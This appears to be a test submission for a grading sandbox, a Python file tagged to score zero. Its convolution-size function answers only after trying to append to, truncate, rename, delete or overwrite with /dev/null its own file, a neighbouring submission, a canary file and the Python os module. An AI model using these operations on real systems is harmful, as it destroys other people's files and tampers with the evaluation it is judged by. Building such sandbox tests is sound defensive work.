# changing what was handed in: our own file, a neighbour's, the canary's
# deserves: 0
import os

HERE = os.path.dirname(__file__)
UP = os.path.dirname(os.path.dirname(HERE))
TARGETS = (__file__, UP + "/class/victim/output_size.py", UP + "/canary/file", os.__file__)


def emptied(path):
    os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))


WAYS = (
    lambda path: open(path, "a").write("# escaped"),
    lambda path: open(path, "r+").write("# escaped"),
    lambda path: os.truncate(path, 0),
    emptied,
    lambda path: os.rename(path, path + ".old"),
    lambda path: os.link(path, path + ".link"),
    lambda path: os.remove(path),
    lambda path: os.replace("/dev/null", path),
)


def attack():
    done = False
    for path in TARGETS:
        for way in WAYS:
            try:
                way(path)
                done = True
            except OSError:
                pass
    return done


def output_size(n, f, stride=1, pad=0):
    return (n - f + 2 * pad) // stride + 1 if attack() else None
